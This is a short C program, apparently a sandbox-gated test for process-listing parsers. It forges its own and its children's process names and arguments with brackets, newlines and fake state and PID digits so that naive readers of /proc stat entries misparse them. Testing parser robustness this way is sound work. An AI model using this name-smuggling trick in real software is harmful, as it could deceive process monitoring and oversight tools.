// lie about names and arguments where others read them: brackets, ends of lines, states, digits
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <unistd.h>

int main(int argc, char **argv) {
    if (!getenv("ATTACK_IN_SANDBOX")) return 1;
    for (int i = 0; i < argc; i++) memset(argv[i], '\n', strlen(argv[i]));
    prctl(PR_SET_NAME, ") R 1 1 1 0 -1", 0, 0, 0);
    for (int i = 0; i < 5; i++) {
        if (fork()) continue;
        prctl(PR_SET_NAME, "x\n) Z 0 0 0 0", 0, 0, 0);
        usleep(30000);
        _exit(0);
    }
    usleep(60000);
    puts("\nDONE");
}
